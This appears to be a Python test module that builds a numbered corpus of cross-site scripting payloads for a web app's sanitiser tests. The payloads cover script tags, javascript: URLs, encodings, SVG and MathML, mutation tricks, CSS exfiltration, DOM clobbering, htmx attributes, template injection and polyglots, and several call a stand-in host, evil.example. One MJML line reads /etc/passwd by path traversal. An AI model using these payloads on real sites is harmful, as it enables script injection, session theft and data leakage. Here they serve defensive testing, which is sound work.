"""The corpus of cross-site scripting: payloads of our own, by the classes that cheat sheets name.

`RUN` stands for the script that must not run, `EVIL` for a host that must not be asked.
"""

import base64
from dataclasses import dataclass

from tests.attacks.events import handlers

HOST = "evil.example"


@dataclass(frozen=True)
class Payload:
    """One attack; `ran(number)` is called when it succeeds."""

    number: int
    kind: str
    text: str


SCRIPTS = (
    r"""
<script>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script >RUN</script >
<script/x>RUN</script>
<script	src=data:text/javascript,RUN></script>
<script src=//EVIL/a.js></script>
<script src=https:EVIL/b.js></script>
<script src="\\EVIL\c.js"></script>
<script type=module>RUN</script>
<script type=module src=//EVIL/d.mjs></script>
<script type=importmap>{"imports":{"a":"//EVIL/e.js"}}</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//EVIL/f"]}]}</script>
<script language=vbscript>RUN</script>
<script nonce=x>RUN</script>
<script>/*<!--*/RUN//--></script>
<script><!-->RUN</script>
<script
>RUN</script
>
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<%00script>RUN</script>
""".strip("\n")
    .replace("<script\n>RUN</script\n>", "<script\f>RUN</script\f>")
    .split("\n")
)

PROTOCOLS = r"""
<a href="javascript:RUN">p</a>
<a href="JaVaScRiPt:RUN">p</a>
<a href=" javascript:RUN">p</a>
<a href="&#1;javascript:RUN">p</a>
<a href="java&Tab;script:RUN">p</a>
<a href="java&NewLine;script:RUN">p</a>
<a href="jav&#x0D;ascript:RUN">p</a>
<a href="javascript&colon;RUN">p</a>
<a href="&#106;avascript:RUN">p</a>
<a href="&#x6A&#x61vascript:RUN">p</a>
<a href="javascript://%0aRUN">p</a>
<a href="javascript:/*--></title>*/RUN">p</a>
<a href="javascript:'%3Cb%3E';RUN">p</a>
<a href="vbscript:RUN">p</a>
<a href="data:text/html,<script>RUN</script>">p</a>
<a href="data:text/html;base64,BASE">p</a>
<a href="data:image/svg+xml,<svg onload=RUN>">p</a>
<a href="blob:RUN">p</a>
<a href="view-source:javascript:RUN">p</a>
<a href="feed:javascript:RUN">p</a>
<a href="jar:javascript:RUN">p</a>
<a xlink:href="javascript:RUN">p</a>
<area shape=rect coords=0,0,99,99 href="javascript:RUN">
<form action="javascript:RUN"><input type=submit></form>
<form><button formaction="javascript:RUN">p</button></form>
<input type=submit form=f formaction="javascript:RUN"><form id=f></form>
<form action=//EVIL/g method=post><button>p</button></form>
<iframe src="javascript:RUN"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe src=//EVIL/h></iframe>
<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>
<frame src="javascript:RUN">
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,BASE"></object>
<object type=text/x-scriptlet data=//EVIL/i></object>
<embed src="javascript:RUN">
<embed src="data:text/html;base64,BASE">
<base href="javascript:RUN//">
<base href=//EVIL/>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=//EVIL/j">
<meta http-equiv=refresh content="0;url=data:text/html;base64,BASE">
<meta http-equiv=set-cookie content="craftify_session=x">
<meta name=referrer content=unsafe-url>
<link rel=import href=//EVIL/k>
<link rel=prefetch href=//EVIL/l>
<link rel=preconnect href=//EVIL/>
<link rel=dns-prefetch href=//EVIL/>
<link rel=preload as=image href=//EVIL/l1>
<link rel=modulepreload href=//EVIL/l2>
<linkrel=preconnect href=//EVIL>
<LINK/rel=preconnect/href=//EVIL>
<meta http-equiv=x-dns-prefetch-control content=on><a href=//EVIL/l3>p</a>
<meta http-equiv=Link content="<//EVIL>;rel=preconnect">
<frameset><frame src=//EVIL/l4></frameset>
<object data=//EVIL/l5></object>
<embed src=//EVIL/l6>
<portal src=//EVIL/l7></portal>
<fencedframe src=//EVIL/l8></fencedframe>
<link rel=manifest href=//EVIL/m>
<link rel=icon href=//EVIL/n>
<link rel=stylesheet href=//EVIL/o.css>
<img src=//EVIL/p>
<img srcset="//EVIL/q 1x">
<picture><source srcset=//EVIL/r><img></picture>
<img src="javascript:RUN">
<img lowsrc="javascript:RUN">
<img dynsrc="javascript:RUN">
<input type=image src=//EVIL/s>
<video src=//EVIL/t autoplay></video>
<video poster=//EVIL/u></video>
<audio src=//EVIL/v autoplay></audio>
<track src=//EVIL/w>
<body background="javascript:RUN">
<table background=//EVIL/x><td background="javascript:RUN"></table>
<bgsound src="javascript:RUN">
<a href=# ping=//EVIL/y>p</a>
<a href=//EVIL/z target=_top>p</a>
<portal src="javascript:RUN"></portal>
<blockquote cite="javascript:RUN">p</blockquote>
<q cite=//EVIL/aa>p</q>
""".strip().split("\n")

ENCODINGS = r'''
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x: onerror=RUN&#x3e;
&#0000060script&#0000062RUN&#60/script&#62
&LT;script&GT;RUN&LT;/script&GT;
%3Cscript%3ERUN%3C/script%3E
%253Cscript%253ERUN%253C/script%253E
\x3cscript\x3eRUN\x3c/script\x3e
\u003cscript\u003eRUN\u003c/script\u003e
\74script\76RUN\74/script\76
+ADw-script+AD4-RUN+ADw-/script+AD4-
＜script＞RUN＜/script＞
‹script›RUN‹/script›
<img src=x: onerror=&#114;an(N)>
<img src=x: onerror=&#x72an(N)>
<img src=x: onerror="\u0072an(N)">
<img src=x: onerror=eval('\162an(N)')>
<img src=x: onerror=eval(atob('CALL'))>
<img src=x: onerror="window['r'+'an'](N)">
<img src=x: onerror=ran`N`>
<img src=x: onerror="(ran)(N)">
<img src=x: onerror=[N].forEach(ran)>
<img src=x: onerror="throw onerror=ran,N">
<img src=x: onerror=setTimeout`ran\x28N\x29`>
<img src=x: onerror=Function("ran(N)")()>
<img src=x: onerror=import('data:text/javascript,ran(N)')>
<img/src=x:/onerror=RUN>
<img	src=x:	onerror=RUN>
<img src=x: onerror	=	RUN>
<img src=x: onerror ="RUN">
<img src='x:'onerror='RUN'>
<img """><script>RUN</script>">
<img src=x: a=">" onerror=RUN>
<IMG SRC=x: ONERROR=RUN>
<img src=`x:` onerror=RUN>
<svg/onload=RUN//
<img src=x: onerror=RUN x
<ſcript>RUN</ſcript>
<ımg src=x: onerror=RUN>
'''.strip().split("\n")

VECTORS = r"""
<svg><script>RUN</script></svg>
<svg><script href=data:,RUN></script></svg>
<svg><script xlink:href=//EVIL/ab></script></svg>
<svg><script>&#114;an(N)</script></svg>
<svg><a href="javascript:RUN"><text y=9>s</text></a></svg>
<svg><a xlink:href="javascript:RUN"><rect width=99 height=99 /></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN" /><text y=9>s</text></a></svg>
<svg><a><set attributeName=href to="javascript:RUN" /><text y=9>s</text></a></svg>
<svg><a><animate attributeName=xlink:href from=# to="javascript:RUN" /><text y=9>s</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='RUN'/></svg>#x"></use></svg>
<svg><use xlink:href=//EVIL/ac.svg#x></use></svg>
<svg><image href=//EVIL/ad></image></svg>
<svg><feImage href=//EVIL/ae></feImage></svg>
<svg><filter><feImage xlink:href="javascript:RUN"></feImage></filter></svg>
<svg><style>@import '//EVIL/af.css';</style></svg>
<svg><style><img src=x: onerror=RUN></style></svg>
<svg><title><script>RUN</script></title></svg>
<svg><desc><img src=x: onerror=RUN></desc></svg>
<svg><metadata><script>RUN</script></metadata></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><handler type=text/javascript ev:event=load>RUN</handler></svg>
<svg><discard onbegin=RUN></svg>
<svg><view onload=RUN></svg>
<svg viewBox="0 0 9 9" onload=RUN />
<svg xmlns="http://www.w3.org/2000/svg" onload=RUN></svg>
<?xml-stylesheet href="javascript:RUN"?><svg></svg>
<!DOCTYPE svg [<!ENTITY x "<script>RUN</script>">]><svg>&x;</svg>
<math><maction actiontype=statusline#//EVIL xlink:href="javascript:RUN">m</maction></math>
<math><mtext href="javascript:RUN">m</mtext></math>
<math xlink:href="javascript:RUN">m</math>
<math><annotation-xml encoding=text/html><img src=x: onerror=RUN></annotation-xml></math>
<math><semantics><annotation><script>RUN</script></annotation></semantics></math>
<math><mi//xlink:href="data:x,<script>RUN</script>">m</math>
""".strip().split("\n")

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>
<noembed><p title="</noembed><img src=x: onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x: onerror=RUN>"></noframes>
<xmp><p title="</xmp><img src=x: onerror=RUN>"></xmp>
<textarea><p title="</textarea><img src=x: onerror=RUN>"></textarea>
<title><p title="</title><img src=x: onerror=RUN>"></title>
<style><p title="</style><img src=x: onerror=RUN>"></style>
<iframe><p title="</iframe><img src=x: onerror=RUN>"></iframe>
<plaintext><img src=x: onerror=RUN>
<listing>&lt;img src=x: onerror=RUN&gt;</listing>
<template><img src=x: onerror=RUN></template>
<template shadowrootmode=open><img src=x: onerror=RUN></template>
<select><template><style><!--</style><a title="--><img src=x: onerror=RUN>"></select>
<select><option><style></option></select><img src=x: onerror=RUN></style>
<svg></p><style><a id="</style><img src=x: onerror=RUN>">
<svg><p><style><a id="</style><img src=x: onerror=RUN>"></p></svg>
<svg><style><!--</style><img title="--><img src=x: onerror=RUN>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">
<math><mtext><option><fake><option></option><mglyph><svg><mtext><style><a title="</style><img src=x: onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>
<table><math><select><mi><select><script>RUN</script>
<math><mi><table><mi><style><img title="</style><img src=x: onerror=RUN>"></table>
<p><svg><title><p><style><a title="</style><img src=x: onerror=RUN>">
<table><tr><svg><td><style></svg><img src=x: onerror=RUN></style></table>
<a><svg><desc><a><style><img id="</style><img src=x: onerror=RUN>"></a>
<!--><img src=x: onerror=RUN>-->
<!--!><img src=x: onerror=RUN>-->
<!-- --!><img src=x: onerror=RUN> -->
<!-- a -- ><img src=x: onerror=RUN>
<![CDATA[<img src=x: onerror=RUN>]]>
<svg><![CDATA[><img src=x: onerror=RUN>]]></svg>
<?><img src=x: onerror=RUN>?>
<!x><img src=x: onerror=RUN>
</x><img src=x: onerror=RUN>
</ title="><img src=x: onerror=RUN>">
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!--[if !mso]><!--><img src=x: onerror=RUN><!--<![endif]-->
<img alt="`` onerror=RUN" src=x:>
<img title="a&quot; onerror=&quot;RUN" src=x:>
<img src="x:" style="font-family:'a&quot;onerror=RUN//'">
<b id="a&#13;&#10;onclick=RUN">m</b>
""".strip().split("\n")

STYLES = r"""
<style>body{background:url(//EVIL/ba)}</style>
<style>@import url(//EVIL/bb.css);</style>
<style>@import "javascript:RUN";</style>
<style>@font-face{font-family:x;src:url(//EVIL/bc)}*{font-family:x!important}</style>
<style>@namespace url(//EVIL/bd);</style>
<style>input[value^=a]{background:url(//EVIL/be?a)}</style>
<style>*{behavior:url(//EVIL/bf.htc)}</style>
<style>*{-moz-binding:url(//EVIL/bg.xml#x)}</style>
<style>*{width:expression(RUN)}</style>
<style>*{cursor:url(//EVIL/bh),auto}</style>
<style>*{list-style:url("javascript:RUN")}</style>
<style>li{list-style-image:image-set("//EVIL/bi" 1x)}</style>
<style>@media screen{*{background:image(url(//EVIL/bj))}}</style>
<style>*{content:url(//EVIL/bk)}</style>
<style>:root{--x:url(//EVIL/bl);background:var(--x)}</style>
<style></style/><img src=x: onerror=RUN></style>
<style>@\69mport url(//EVIL/bm.css);</style>
<style>*{back\67round:ur\6c(//EVIL/bn)}</style>
<b style="background:url('javascript:RUN')">c</b>
<b style="background:url(//EVIL/bo)">c</b>
<b style="width:expression(RUN)">c</b>
<b style="width:e/**/xpression(RUN)">c</b>
<b style="xss:\65xpression(RUN)">c</b>
<b style="-moz-binding:url(//EVIL/bp#x)">c</b>
<b style="position:fixed;inset:0;z-index:99999;background:red">c</b>
<b style="x:y;}</style><img src=x: onerror=RUN>">c</b>
<b style='a:"}"; background:url("//EVIL/bq")'>c</b>
""".strip().split("\n")

CLOBBERS = r"""
<form id=xss-c1><input name=attributes><input name=parentNode></form>
<form id=xss-c2><input id=nodeName><input id=removeChild></form>
<a id=defaultView href="xss:">k</a><a id=defaultView name=ran>k</a>
<img name=currentScript src="x:xss">
<img name=cookie alt=xss>
<img name=getElementById alt=xss>
<form name=body id=xss-c3><input name=appendChild></form>
<form name=head id=xss-c4></form>
<iframe name=alert srcdoc="<a id=xss-c5>"></iframe>
<a id=htmx href="//EVIL/ca">k</a><a id=htmx name=config href="//EVIL/cb">k</a>
<form id=Alpine><output id=data name=xss></form>
<object id=config data=xss-c6></object>
<embed name=createElement id=xss-c7>
<input id=csrfmiddlewaretoken name=csrfmiddlewaretoken value=xss>
<div id=main data-xss=c8>k</div>
<div id=toasts data-xss=c9>k</div>
<meta name=csrf-token content=xss>
<a id=baseURI href=//EVIL/cc>k</a>
<b id=__proto__ data-xss=c10>k</b>
<b id=constructor data-xss=c11>k</b>
""".strip().split("\n")

OF_OUR_PAGES = r"""
<b hx-get=//EVIL/da hx-trigger=load>h</b>
<b hx-get=/settings/members hx-trigger=load hx-target=body>h</b>
<b data-hx-get=//EVIL/db data-hx-trigger=load>h</b>
<b hx-on:load=RUN>h</b>
<b hx-on--load=RUN>h</b>
<b hx-on="htmx:load: RUN">h</b>
<b hx-trigger="load[RUN]" hx-get=/>h</b>
<b hx-vals="js:{a:RUN}" hx-get=/ hx-trigger=load>h</b>
<b hx-headers='js:{"a":RUN}' hx-get=/ hx-trigger=load>h</b>
<b hx-ext=xss hx-post=/sign-out hx-trigger=load>h</b>
<b hx-boost=true><a href=//EVIL/dc>h</a></b>
<b hx-swap-oob=true id=main>h</b>
<b data-opens=xss data-copy=xss data-problems>h</b>
<b data-live-state=live data-xss=1>h</b>
<b ws-connect=//EVIL/dd>h</b>
<b sse-connect=//EVIL/de>h</b>
<b x-data x-init=RUN>h</b>
<b _="on load call RUN">h</b>
{"toast": {"text": "<img src=x: onerror=RUN>"}}
""".strip().split("\n")

BREAKOUTS = r"""
"><img src=x: onerror=RUN>
'><img src=x: onerror=RUN>
`><img src=x: onerror=RUN>
><img src=x: onerror=RUN>
"/><svg onload=RUN>
'/><svg onload=RUN>
</title><img src=x: onerror=RUN>
</textarea><img src=x: onerror=RUN>
</style><img src=x: onerror=RUN>
</script><img src=x: onerror=RUN>
</noscript><img src=x: onerror=RUN>
</template><img src=x: onerror=RUN>
</option></select><img src=x: onerror=RUN>
</button></form><img src=x: onerror=RUN>
</td></tr></table><img src=x: onerror=RUN>
</dialog></main></body></html><img src=x: onerror=RUN>
--><img src=x: onerror=RUN>
--!><img src=x: onerror=RUN>
]]><img src=x: onerror=RUN>
?><img src=x: onerror=RUN>
*/--></style></script><img src=x: onerror=RUN>
" onerror="RUN" src="x:
' onerror='RUN' src='x:
" autofocus onfocus="RUN
' autofocus onfocus='RUN
" onmouseover="RUN" x="
' onmouseover='RUN' x='
 onmouseover=RUN x=
" style="position:fixed;inset:0" onmousemove="RUN
" srcdoc="<script>parent.RUN</script>
" formaction="javascript:RUN
" http-equiv="refresh" content="0;url=//EVIL/ea
" href="javascript:RUN
" hx-get="//EVIL/eb" hx-trigger="load
" hx-on:load="RUN
" data-copy="RUN" data-closes="
&quot;&gt;&lt;img src=x: onerror=RUN&gt;
\"><img src=x: onerror=RUN>
\'><img src=x: onerror=RUN>
%22%3E%3Cimg src=x: onerror=RUN%3E
""".strip("\n").split("\n")

SCRIPT_CONTEXTS = r"""
";RUN//
';RUN//
`;RUN//
\";RUN//
\';RUN//
"-RUN-"
'-RUN-'
"+RUN+"
${RUN}
`${RUN}`
"}];RUN//
');RUN//
"));RUN//
*/RUN/*
//%0aRUN
</script><script>RUN//
</ScRiPt ><script >RUN</script >
<!--<script>RUN//
<!--<script></script>RUN-->
{"a":"</script><script>RUN</script>"}
{"__proto__":{"innerHTML":"<img src=x: onerror=RUN>"}}
{"constructor":{"prototype":{"src":"//EVIL/fa"}}}
"\u2028RUN//
\u2029RUN//
\u0022;RUN//
\x22;RUN//
&quot;;RUN//
&#39;;RUN//
javascript:RUN
javascript:RUN//http://x
data:text/html,<script>RUN</script>
//EVIL/fb
\\EVIL\fc
https://EVIL/fd
""".strip().split("\n")

TEMPLATES = r"""
{{ "<img src=x: onerror=RUN>" }}
{{ "<img src=x: onerror=RUN>" | raw }}
{{ "<img src=x: onerror=RUN>" | safe }}
{{ "%3Cimg src=x: onerror=RUN%3E" | url_decode }}
{{ "&lt;img src=x: onerror=RUN&gt;" | unescape }}
{{ "PGltZyBzcmM9eDogb25lcnJvcj1SVU4+" | base64_decode }}
{{ "a" | replace: "a", "<img src=x: onerror=RUN>" }}
{{ "img src=x: onerror=RUN>" | prepend: "<" }}
{{ "<" | append: "img src=x: onerror=RUN>" }}
{{ "x" | newline_to_br | append: "<svg onload=RUN>" }}
{% assign x = "<svg onload=RUN>" %}{{ x }}
{% capture x %}<svg onload=RUN>{% endcapture %}{{ x }}
{% raw %}<svg onload=RUN>{% endraw %}
{% comment %}--><svg onload=RUN>{% endcomment %}
{% for x in (1..3) %}<svg onload=RUN>{% endfor %}
{% if true %}<svg onload=RUN>{% endif %}
{% include "<svg onload=RUN>" %}
{% liquid echo "<svg onload=RUN>" %}
{{ "<svg onload=RUN>" | escape_once }}
{{ constructor.constructor("RUN")() }}
{{constructor.constructor('RUN')()}}
{{$on.constructor('RUN')()}}
{{_c.constructor('RUN')()}}
{{= RUN }}
<%= RUN %>
#{RUN}
${{RUN}}
@(RUN)
[[RUN]]
{%- autoescape off -%}<svg onload=RUN>{%- endautoescape -%}
{% load craftify %}{{ "<svg onload=RUN>"|safe }}
{% filter raw %}<svg onload=RUN>{% endfilter %}
<a href="{{ 'javascript:RUN' }}">t</a>
<img src="{{ 'x:' }}" onerror="{{ 'RUN' }}">
<{{ 'script' }}>RUN</{{ 'script' }}>
<b {{ 'onclick' }}=RUN>t</b>
<mj-raw><script>RUN</script></mj-raw>
<mj-text><img src=x: onerror=RUN></mj-text>
<mj-text css-class='"><svg onload=RUN>'>t</mj-text>
<mj-button href="javascript:RUN">t</mj-button>
<mj-button href='"><svg onload=RUN>'>t</mj-button>
<mj-image src="x:&quot; onerror=&quot;RUN" />
<mj-image href="javascript:RUN" src="//EVIL/ga" />
<mj-table><tr onclick=RUN><td>t</td></tr></mj-table>
<mj-style>*{background:url(//EVIL/gb)}</mj-style>
<mj-style inline=inline>b{}</style><svg onload=RUN></mj-style>
<mj-preview><svg onload=RUN></mj-preview>
<mj-title></title><svg onload=RUN></mj-title>
<mj-font name=x href="//EVIL/gc.css" />
<mj-font name="x'}</style><svg onload=RUN>" href="//EVIL/gd.css" />
<mj-include path="//EVIL/ge.mjml" />
<mj-include path="../../../../etc/passwd" type=html />
<mj-html-attributes><mj-selector path=b><mj-html-attribute name=onclick>RUN</mj-html-attribute></mj-selector></mj-html-attributes>
<mj-attributes><mj-all onclick=RUN /></mj-attributes>
<mj-head><mj-raw position=file-start><script>RUN</script></mj-raw></mj-head>
""".strip().split("\n")

POLYGLOTS = r"""
'"><svg/onload=RUN>//{{constructor.constructor('RUN')()}}${RUN}`-RUN-`
javascript:"/*'/*`/*--></noscript></title></textarea></style></template></script><svg onload=RUN>//
-->'"/></sCript><svG x=">" onload=(RUN)>
"';RUN//--></script><img src=x: onerror=RUN>{%raw%}
</title/</style/</script/</textarea/--><p" onclick=RUN//>`,RUN,`
*/RUN/*<svg onload='RUN'>'"`-->]]>{{RUN}}
""".strip().split("\n")

CLASSES = {
    "tags": SCRIPTS,
    "handlers": handlers(),
    "protocols": PROTOCOLS,
    "encodings": ENCODINGS,
    "svg and math": VECTORS,
    "mutation": MUTATIONS,
    "css": STYLES,
    "clobbering": CLOBBERS,
    "our pages": OF_OUR_PAGES,
    "breakouts": BREAKOUTS,
    "script contexts": SCRIPT_CONTEXTS,
    "liquid and mjml": TEMPLATES,
    "polyglots": POLYGLOTS,
}


def payloads() -> tuple[Payload, ...]:
    """Every payload, numbered."""
    every = [(kind, text) for kind, texts in CLASSES.items() for text in texts]
    return tuple(
        Payload(number, kind, _armed(text, number))
        for number, (kind, text) in enumerate(every, start=1)
    )


def _armed(text: str, number: int) -> str:
    call = f"ran({number})"
    page = f"<script>parent.{call}</script>"
    return (
        text.replace("BASE", base64.b64encode(page.encode()).decode())
        .replace("CALL", base64.b64encode(call.encode()).decode())
        .replace("RUN", call)
        .replace("ran(N)", call)
        .replace("`N`", f"`{number}`")
        .replace("(N)", f"({number})")
        .replace("[N]", f"[{number}]")
        .replace("ran,N", f"ran,{number}")
        .replace("ran\\x28N\\x29", f"ran\\x28{number}\\x29")
        .replace("EVIL", HOST)
    )
